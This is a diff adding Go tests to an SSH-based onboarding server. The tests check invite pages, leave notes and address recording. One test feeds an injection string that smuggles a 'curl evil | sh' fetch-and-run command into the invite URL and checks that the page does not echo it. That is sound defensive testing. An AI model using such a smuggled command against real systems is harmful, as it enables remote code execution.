@@ -1,13 +1,22 @@
 package sshserve
 
 import (
+	"context"
+	"html"
+	"io"
+	"net/http"
 	"os"
 	"path/filepath"
+	"reflect"
 	"regexp"
 	"strings"
 	"testing"
+	"time"
 
 	gossh "golang.org/x/crypto/ssh"
+
+	"github.com/oidc-onboard/oidc-onboard/steps"
+	"github.com/oidc-onboard/oidc-onboard/store"
 )
 
 // A support engineer makes an invite inside the wizard over SSH; the code
@@ -43,5 +52,103 @@ func TestSSHEngineerInvitesFromTheWizard(t *testing.T) {
 	customer.waitFor(t, "Initech")
 	if strings.Contains(customer.screen(), "invite a customer") {
 		t.Errorf("a customer was offered invites:\n%s", customer.screen())
+	}
+}
+
+// A customer is the organization's admin: step 0 speaks to them; when
+// they leave, they read until when the same code brings them back.
+func TestSSHCustomerIsAddressedAndToldWhenToComeBack(t *testing.T) {
+	t.Parallel()
+	s := sshStart(t, nil)
+	code, inv := s.invite(t, "Initech")
+	_, term := s.connect(t, 80, 24, code)
+	term.waitFor(t, "Name this SSO connection for your organization.")
+	term.send("\x03")
+	term.waitEnd(t)
+	if want := steps.LeaveNote(inv.ExpiresAt); !strings.Contains(term.all(), want) {
+		t.Errorf("the customer left without reading %q:\n%s", want, term.all())
+	}
+}
+
+// serve records where its SSH server listens, as customers reach it, for
+// the command `invite` prints.
+func TestServeRecordsItsSSHAddressForInvites(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	st, err := store.Open(filepath.Join(dir, "onboard.db"), store.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	ctx, cancel := context.WithCancel(t.Context())
+	done := make(chan error, 1)
+	go func() {
+		done <- Serve(ctx, ServeConfig{Store: st, SSHAddr: "127.0.0.1:0", HTTPAddr: "127.0.0.1:0",
+			PublicURL: "http://localhost:8976", Timeout: time.Second}, io.Discard, io.Discard)
+	}()
+	defer func() { cancel(); <-done }()
+	deadline := time.Now().Add(sshWait)
+	for time.Now().Before(deadline) {
+		host, page, err := st.InviteAddresses(ctx, "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.HasPrefix(host, "localhost:") && host != "localhost:0" && page == "http://localhost:8976" {
+			return
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	t.Fatal("serve never recorded its SSH address")
+}
+
+// The invite page at PUBLIC_URL/i/CODE says how to connect: the ssh
+// command with the code, the host key to compare, a line for Windows;
+// nothing of the organization. Opening it does not use the code up, and
+// a code that works, one withdrawn and one never made get answers alike
+// but for the code itself: the same status, headers and page.
+func TestInvitePageSaysHowToConnectAndTellsNothing(t *testing.T) {
+	t.Parallel()
+	s := sshStart(t, func(o *ServerOptions) { o.SSHHost = "onboard.example.com:2222" })
+	get := func(code string) (int, http.Header, string) {
+		t.Helper()
+		resp, err := http.Get(s.url + "/i/" + code)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		body, err := io.ReadAll(resp.Body)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Header.Del("Date")
+		return resp.StatusCode, resp.Header, strings.ReplaceAll(html.UnescapeString(string(body)), code, "CODE")
+	}
+	good, _ := s.invite(t, "Initech Secret Org")
+	withdrawn, inv := s.invite(t, "Initech Secret Org")
+	if err := s.st.RevokeInvite(t.Context(), inv.ID); err != nil {
+		t.Fatal(err)
+	}
+	status, header, page := get(good)
+	fingerprint := gossh.FingerprintSHA256(s.srv.opts.HostKey.PublicKey())
+	for _, want := range []string{"ssh -p 2222 CODE@onboard.example.com", "ssh -p 2222 setup@onboard.example.com", fingerprint, "Windows"} {
+		if !strings.Contains(page, want) {
+			t.Errorf("the invite page lacks %q:\n%s", want, page)
+		}
+	}
+	if status != http.StatusOK || header.Get("Cache-Control") != "no-store" || header.Get("Referrer-Policy") != "no-referrer" ||
+		strings.Contains(page, "Initech") {
+		t.Errorf("invite page: %d %v\n%s", status, header, page)
+	}
+	if _, err := s.st.LookupInvite(t.Context(), good); err != nil {
+		t.Errorf("opening the page used the code up: %v", err)
+	}
+	for _, other := range []string{withdrawn, "zzzz-zzzz-zzzz-zzzz"} {
+		st, h, p := get(other)
+		if st != status || !reflect.DeepEqual(h, header) || p != page {
+			t.Errorf("the page for %s differs from a working code's: %d %v\n%s", other, st, h, p)
+		}
+	}
+	if st, _, p := get("x;curl%20evil%7Csh"); st != status || strings.Contains(p, "curl") || !strings.Contains(p, "setup@onboard.example.com") {
+		t.Errorf("a URL without a code's shape: %d\n%s", st, p)
 	}
 }
